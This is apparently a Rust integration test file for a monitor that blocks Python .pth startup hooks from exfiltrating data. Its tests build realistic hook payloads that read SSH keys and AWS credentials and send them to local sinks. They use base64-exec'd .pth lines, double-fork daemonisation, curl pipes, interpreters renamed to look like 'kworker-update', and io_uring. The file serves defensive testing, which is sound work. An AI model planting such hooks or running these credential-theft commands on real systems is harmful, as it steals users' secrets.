//! Attribution against the real kernel: what a startup hook starts stays the hook's —
//! through double forks and `setsid`, delays, threads that outlive start-up, exec chains
//! and renamed interpreters — while the main program and programs that merely look at
//! site dirs are never blamed. Block mode throughout: zero bytes may leave.
//!
//! Payloads are guarded by `PTHW_CHILD` (no recursion) and every wait is bounded.
use std::{
    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
    time::Duration,
};

use integration_tests::{
    Daemon, PYTHON, Sandbox, TcpSink, can_run,
    payload::{
        READ_CREDENTIALS, assert_exfil_alert, assert_hook_blocked, exfil_alert,
        preexisting_suspect_hooks, relevant, wait_marker,
    },
    run_bounded, wait_until,
};

/// A `.pth` line that runs `code` in the interpreter itself, once.
fn inline_pth_line(code: &str) -> String {
    format!(
        "import os, base64; os.environ.get('PTHW_CHILD') or exec(base64.b64decode('{}'))\n",
        integration_tests::base64(code.as_bytes())
    )
}

/// Python writing the payload's end marker with `r`.
const FINISH: &str = "
with open(os.path.join(os.path.expanduser('~'), 'payload.done'), 'w') as f:
    f.write(r)
";

/// Python sending `blob` over TCP to `port`, leaving the outcome in `r`.
fn send_blob(port: u16) -> String {
    format!(
        "
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
    s.sendall(blob)
    s.close()
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
"
    )
}

/// Runs `python -c main` with the hook installed under a block-mode daemon; returns the
/// marker, the exfiltration alert and every alert.
fn run_blocked(
    sb: &Sandbox,
    main: &str,
    marker_wait: Duration,
) -> (
    Option<String>,
    Option<serde_json::Value>,
    Vec<serde_json::Value>,
) {
    let daemon = Daemon::start("block", &[]);
    let (code, out) = sb.python(&["-c", main]);
    assert_eq!(code, 0, "the main program must run: {out}");
    let done = wait_marker(sb, marker_wait);
    if done.is_none() {
        eprintln!("the payload left no marker; the interpreter said:\n{out}");
    }
    let alert = exfil_alert(&daemon);
    (done, alert, daemon.stop())
}

#[test]
fn double_fork_setsid_and_a_delay_do_not_shake_attribution() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("daemonize");
    let sink = TcpSink::start();
    // Daemonise like a real implant: fork, setsid, fork again, sleep past the parent's
    // exit, then read and send through an exec chain (`sh -c` -> `curl`).
    let code = format!(
        "import os, time, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ['PTHW_CHILD'] = '1'
        time.sleep(3)
        home = os.path.expanduser('~')
        p = subprocess.run(['/bin/sh', '-c', 'cat .ssh/id_ed25519 .aws/credentials | /usr/bin/env curl -s -m 10 --data-binary @- http://127.0.0.1:{}/'], cwd=home)
        with open(os.path.join(home, 'payload.done'), 'w') as f:
            f.write(str(p.returncode))
    os._exit(0)
else:
    os.wait()
",
        sink.port
    );
    let pth = sb.pth("daemonize.pth", &inline_pth_line(&code));
    let (done, alert, alerts) = run_blocked(&sb, "print('main done')", Duration::from_secs(25));
    assert!(done.is_some(), "the daemonised payload never finished");
    assert_ne!(done.as_deref(), Some("0"), "curl must have failed");
    assert_eq!(sink.bytes(), 0, "bytes left");
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
}

#[test]
fn a_thread_started_by_a_hook_stays_the_hooks_after_start_up() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("thread");
    let evil = TcpSink::start();
    let legit = TcpSink::start();
    // The thread wakes once the main program runs; the main program sends too.
    let code = format!(
        "import threading
def work():
    import time
    time.sleep(1.0)
{}
threading.Thread(target=work).start()
",
        indent(&format!(
            "{READ_CREDENTIALS}{}{FINISH}",
            send_blob(evil.port)
        ))
    );
    let pth = sb.pth("bg_thread.pth", &inline_pth_line(&code));
    let main = format!(
        "{READ_CREDENTIALS}
import socket, time
s = socket.create_connection(('127.0.0.1', {}), timeout=5)
s.sendall(blob)
s.close()
time.sleep(2)
",
        legit.port
    );
    let (done, alert, alerts) = run_blocked(&sb, &main, Duration::from_secs(10));
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the hook's thread must be denied"
    );
    assert_eq!(evil.bytes(), 0);
    assert!(
        wait_until(Duration::from_secs(5), || legit
            .received()
            .contains(&sb.canary)),
        "the main program's send must go through"
    );
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, &sb, &pth, evil.port, "blocked");
}

#[test]
fn a_renamed_copy_of_the_interpreter_running_the_hook_is_caught() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("renamedhook");
    let sink = TcpSink::start();
    let code = format!("{READ_CREDENTIALS}{}{FINISH}", send_blob(sink.port));
    let pth = sb.pth("sysmon.pth", &inline_pth_line(&code));
    // An interpreter under another name: neither its name nor its inode is known.
    let copy = sb.home.join("bin/kworker-update");
    std::fs::create_dir_all(copy.parent().expect("parent")).expect("mkdir");
    std::fs::copy(PYTHON, &copy).expect("copy the interpreter");
    let daemon = Daemon::start("block", &[]);
    let (code, out) = run_bounded(
        sb.command(&copy).args(["-c", "print('renamed main')"]),
        Duration::from_secs(60),
    );
    assert_eq!(code, 0, "{out}");
    assert_hook_blocked(
        daemon,
        &sb,
        &pth,
        &sink,
        Duration::from_secs(10),
        "the renamed interpreter's hook got through",
    );
}

/// A program checked once and spared the probation (root's, unable to run Python) that is
/// then overwritten in place with an interpreter (same inode) loses its exemption when the
/// daemon sees the file changed: the renamed interpreter's hook is caught.
#[test]
fn a_spared_program_overwritten_in_place_with_an_interpreter_is_caught() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("overwritten");
    let sink = TcpSink::start();
    let code = format!("{READ_CREDENTIALS}{}{FINISH}", send_blob(sink.port));
    let pth = sb.pth("sysmon.pth", &inline_pth_line(&code));
    let bin = sb.root.join("bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let tool = bin.join("kworker-update");
    std::fs::copy("/usr/bin/true", &tool).expect("copy a system program");
    let log = sb.root.join("daemon.log");
    let to_log = format!("exec \"$0\" \"$@\" 2>{}", log.display());
    let daemon = Daemon::start_via(
        &["sh", "-c", &to_log],
        &["--mode", "block", "--log", "info,monitor::probation=debug"],
    );
    let logged = |what: &str| {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .any(|l| l.contains(what) && l.contains(&*tool.to_string_lossy()))
    };
    let (code, out) = run_bounded(&mut sb.command(&tool), Duration::from_secs(30));
    assert_eq!(code, 0, "{out}");
    assert!(
        wait_until(Duration::from_secs(10), || logged("skip probation")),
        "the copy of /usr/bin/true was not spared the probation: {}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    // Rewritten in place: the file keeps its identity, the kernel's exemption with it.
    let ino = std::fs::metadata(&tool).expect("stat").ino();
    std::fs::copy(PYTHON, &tool).expect("overwrite with the interpreter");
    assert_eq!(std::fs::metadata(&tool).expect("stat").ino(), ino);
    assert!(
        wait_until(Duration::from_secs(15), || logged(
            "exemption from probation dropped"
        )),
        "the changed program kept its exemption: {}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    let (code, out) = run_bounded(
        sb.command(&tool).args(["-c", "print('renamed main')"]),
        Duration::from_secs(60),
    );
    assert_eq!(code, 0, "{out}");
    assert_hook_blocked(
        daemon,
        &sb,
        &pth,
        &sink,
        Duration::from_secs(10),
        "the overwritten program's hook got through",
    );
}

/// A program that is not an interpreter lists a site dir and reads its `.pth` files (an
/// IDE indexer, a scanner, a backup tool), then reads credentials and connects: it runs
/// no hook, so it is neither blamed nor blocked.
#[test]
fn a_non_interpreter_reading_site_dirs_is_not_taken_for_python() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("indexer");
    sb.pth("zz_evil_looking.pth", "import os; os.getpid()\n");
    let sink = TcpSink::start();
    let script = r#"
use IO::Socket::INET;
my ($site, $port) = @ARGV;
opendir(my $d, $site) or die "opendir: $!";
my @pth = grep { /\.pth$/ } readdir($d);
for my $f (@pth) { open(my $h, "<", "$site/$f") or die; local $/; my $x = <$h>; close $h; }
# Analyse what was indexed before reporting (real indexers take far longer).
select(undef, undef, undef, 0.3);
open(my $c, "<", "$ENV{HOME}/.aws/credentials") or die; local $/; my $blob = <$c>; close $c;
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Proto => "tcp") or die "connect: $!";
print $s $blob; close $s;
print "indexed ", scalar(@pth), "\n";
"#;
    let host_hooks = preexisting_suspect_hooks();
    let daemon = Daemon::start("block", &[]);
    let (code, out) = run_bounded(
        sb.command("/usr/bin/perl")
            .args(["-e", script])
            .arg(&sb.site)
            .arg(sink.port.to_string()),
        Duration::from_secs(30),
    );
    std::thread::sleep(Duration::from_millis(3500));
    let alerts = daemon.stop();
    assert_eq!(code, 0, "the indexer was stopped: {out}");
    assert!(out.contains("indexed 1"), "{out}");
    assert!(
        wait_until(Duration::from_secs(5), || sink
            .received()
            .contains(&sb.canary)),
        "the indexer's upload must arrive"
    );
    let mine = relevant(&alerts, &host_hooks);
    assert!(mine.is_empty(), "a non-interpreter was blamed: {mine:#?}");
}

fn indent(code: &str) -> String {
    code.lines().map(|l| format!("    {l}\n")).collect()
}

/// A hook that re-runs itself in every interpreter it starts (the litellm 1.82.8 hook
/// did, by accident). The test's own bound is 40 generations; pthwatch must stop the
/// chain long before that in block mode, and only report it in alert mode.
fn runaway(mode: &str) -> (Vec<u32>, Vec<serde_json::Value>) {
    const BOUND: u32 = 40;
    let sb = Sandbox::new(&format!("respawn-{mode}"));
    let depths = sb.home.join("depths.txt");
    sb.pth(
        "respawn.pth",
        &format!(
            "import os, sys, subprocess; d = int(os.environ.get('PTHW_DEPTH', '0')); d < {BOUND} and (open({:?}, 'a').write('%d\\n' % d), subprocess.run([sys.executable, '-c', 'pass'], env=dict(os.environ, PTHW_DEPTH=str(d + 1)), timeout=60))\n",
            depths.display().to_string()
        ),
    );
    let daemon = Daemon::start(mode, &[]);
    let (_code, _out) = sb.python(&["-c", "pass"]);
    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
        a["rule"] == "hook_runaway_respawn"
    });
    let alerts = daemon.stop();
    assert!(alert.is_some(), "no runaway alert in {alerts:#?}");
    let seen: Vec<u32> = std::fs::read_to_string(&depths)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.trim().parse().ok())
        .collect();
    (seen, alerts)
}

#[test]
fn a_hook_that_respawns_itself_is_stopped_in_block_mode() {
    if !can_run() {
        return;
    }
    let (seen, alerts) = runaway("block");
    let deepest = seen.iter().copied().max().unwrap_or(0);
    assert!(
        deepest <= monitor_limit() + 1,
        "the chain went {deepest} generations deep"
    );
    assert!(deepest >= 2, "the chain never started: {seen:?}");
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == "hook_runaway_respawn")
        .expect("alert");
    assert_eq!(alert["action"], "killed", "{alert:#}");
    assert!(
        alert["startup_hook"]["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("respawn.pth"))
    );
}

#[test]
fn a_hook_that_respawns_itself_is_only_reported_in_alert_mode() {
    if !can_run() {
        return;
    }
    let (seen, alerts) = runaway("alert");
    assert_eq!(
        seen.iter().copied().max(),
        Some(39),
        "alert mode must not interfere"
    );
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == "hook_runaway_respawn")
        .expect("alert");
    assert_eq!(alert["action"], "alert", "{alert:#}");
}

/// `monitor_common::REENTRY_LIMIT`, restated: the tests see pthwatch from outside.
fn monitor_limit() -> u32 {
    16
}

/// io_uring end to end: the credential is opened and read, the socket connected and the
/// data sent, all as io_uring requests (which syscall tracepoints never see), in a child
/// the hook starts and in the hook's own interpreter.
fn iouring_exfiltration(in_process: bool) {
    let sb = Sandbox::new(if in_process {
        "uring-inproc"
    } else {
        "uring-child"
    });
    let sink = TcpSink::start();
    let fixture =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/iouring_exfil.py");
    let cred = sb.home.join(".aws/credentials");
    let marker = sb.home.join("payload.done");
    let line = if in_process {
        format!(
            "import os; os.environ.get('PTHW_CHILD') or exec(open({:?}).read(), {{'__name__': 'hook', 'FILE': {:?}, 'PORT': {}, 'MARKER': {:?}}})\n",
            fixture.display().to_string(),
            cred.display().to_string(),
            sink.port,
            marker.display().to_string()
        )
    } else {
        format!(
            "import os, sys, subprocess; os.environ.get('PTHW_CHILD') or subprocess.Popen([sys.executable, {:?}, {:?}, '{}', {:?}], env=dict(os.environ, PTHW_CHILD='1'))\n",
            fixture.display().to_string(),
            cred.display().to_string(),
            sink.port,
            marker.display().to_string()
        )
    };
    let pth = sb.pth("uring_init.pth", &line);
    let (done, alert, alerts) = run_blocked(&sb, "pass", Duration::from_secs(20));
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the io_uring connect must be denied"
    );
    assert_eq!(sink.bytes(), 0, "bytes left through io_uring");
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_eq!(alert["action"], "blocked", "{alert:#}");
    assert_eq!(
        alert["startup_hook"]["path"].as_str(),
        Some(&*integration_tests::real(&pth).to_string_lossy())
    );
    assert_eq!(alert["destination"]["port"], sink.port, "{alert:#}");
}

#[test]
fn io_uring_exfiltration_from_a_hook_child_is_blocked() {
    if can_run() {
        iouring_exfiltration(false);
    }
}

#[test]
fn io_uring_exfiltration_inside_the_hook_is_blocked() {
    if can_run() {
        iouring_exfiltration(true);
    }
}
